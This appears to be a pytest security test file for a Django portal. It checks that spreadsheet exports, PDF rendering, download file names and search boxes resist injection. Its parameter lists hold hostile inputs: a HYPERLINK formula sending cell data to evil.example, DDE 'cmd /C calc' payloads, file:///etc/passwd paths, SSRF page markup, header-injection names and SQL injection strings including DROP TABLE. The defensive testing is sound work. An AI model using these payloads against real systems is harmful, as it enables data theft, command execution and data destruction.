"""Words that would run: in workbooks, in documents for paper, in headers, in the database."""

import io
import re
import zipfile
from collections.abc import Iterator
from email.message import Message
from http.server import BaseHTTPRequestHandler, HTTPServer
from threading import Thread

import pytest
from django.test import Client

from portal.kernel import files, pdf
from portal.kernel.errors import Refused
from portal.kernel.workbooks import NewSheet, safe_text, write_workbook
from portal.stack.environment import ROOT
from tests.conventions import access
from tests.factories import activities as records
from tests.personas import World

FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
RUNS = re.compile(rb"<f[ >]|ddeLink|externalLink", re.I)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_of_a_workbook_runs(formula: str) -> None:
    content = write_workbook([NewSheet("表", (formula,), [(formula, 1)])])

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert not RUNS.search(archive.read(name)), name
    assert safe_text(formula)[0] not in "=+-@\t\r\n"


def test_every_workbook_is_written_by_the_one_that_guards() -> None:
    """No other place of the project opens openpyxl, csv or pandas to write."""
    writes = re.compile(r"\bWorkbook\(|csv\.writer|\.to_excel|xlsxwriter")
    found = [
        str(path.relative_to(ROOT))
        for app in ("portal", "committees", "activities", "reading_program", "evaluations")
        for path in (ROOT / app).rglob("*.py")
        if writes.search(path.read_text(encoding="utf-8"))
    ]

    assert found == ["portal/kernel/workbooks.py"]


@pytest.mark.django_db
def test_every_export_of_the_address_book_lets_no_planted_formula_run(city: World) -> None:
    """Each address that answers with a workbook, asked as each who may, over planted records."""
    evil = FORMULAS[0]
    record = records.draft(city.school, by=city.school_secretary, title=evil[:60])
    records.accepted(
        city.school, by=city.school_secretary, reviewer=city.office_secretary, title=evil[:60]
    )
    city.school_secretary.name = evil[:60]
    city.school_secretary.save(update_fields=["name"])
    client = Client(raise_request_exception=False)
    client.force_login(city.bureau_staff)
    asked, seen = 0, 0
    for address in access.addresses():
        if ("xlsx" not in address.route and "export" not in address.name) or "<" in address.route:
            continue
        answer = client.get("/" + address.route)
        if answer.status_code != 200:
            continue
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        if not content.startswith(b"PK"):
            continue
        asked += 1
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = [archive.read(name) for name in archive.namelist()]
        assert not any(RUNS.search(part) for part in parts), address.name
        seen += any(b"HYPERLINK" in part for part in parts)

    assert record.pk
    assert asked >= 5
    assert seen >= 1


# --- documents for paper ------------------------------------------------------------------------


@pytest.fixture
def inner() -> Iterator[tuple[str, list[str]]]:
    """A server of the inner network, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *words: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize(
    "page",
    [
        '<img src="{}/secret">',
        '<link rel="stylesheet" href="{}/a.css">',
        "<style>@import url({}/b.css);</style>",
        '<style>body {{ background: url("{}/c.png") }}</style>',
        "<style>@font-face {{ font-family: x; src: url({}/d.woff) }} p {{ font-family: x }}</style>"
        "<p>字</p>",
        '<object data="{}/e"></object>',
        '<embed src="{}/f">',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="{}/g" width="9" height="9"/></svg>',
        '<a rel="attachment" href="{}/h">x</a>',
        '<link rel="attachment" href="{}/i">',
    ],
)
def test_a_document_fetches_nothing_of_the_inner_network(
    inner: tuple[str, list[str]], page: str
) -> None:
    """Server-side request forgery through WeasyPrint."""
    address, asked = inner
    try:
        content = pdf.from_html(f"<html><body>{page.format(address)}</body></html>")
    except Refused:
        content = b""

    assert asked == []
    assert address.encode() + b"/h" not in content or not asked


@pytest.mark.parametrize("address", ["file:///etc/passwd", "css:../../../etc/passwd", "image:../x"])
def test_a_document_reads_no_file_of_the_machine(address: str) -> None:
    with pytest.raises(Refused):
        pdf.from_html(f'<html><body><img src="{address}"></body></html>')


# --- headers and the database -------------------------------------------------------------------


@pytest.mark.parametrize("name", ["表\r\nX-Evil: 1.xlsx", 'a";filename="b.exe', "a\x00b.pdf"])
def test_a_file_name_writes_no_header_of_its_own(name: str) -> None:
    said = files.made(b"x", name)["Content-Disposition"]

    assert "\r" not in said
    assert "\n" not in said
    told = Message()
    told["Content-Disposition"] = said
    assert told.get_content_disposition() in {"attachment", "inline"}
    assert told.get_filename() != "b.exe"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "words",
    ["' OR 1=1 --", "'; DROP TABLE committees_user; --", "%' OR '1'='1", "\x00", "\\", "%_"],
)
def test_words_of_a_search_are_words(client: Client, city: World, words: str) -> None:
    records.submitted(city.other_school, by=city.other_school_secretary, title="别校的记录")
    client.force_login(city.school_secretary)

    for url in ("/search/", "/activities/", "/people/", "/units/"):
        answer = client.get(url, {"q": words, "year": "2023"})
        assert answer.status_code in {200, 302, 400, 422}, url
        assert "别校的记录" not in answer.text
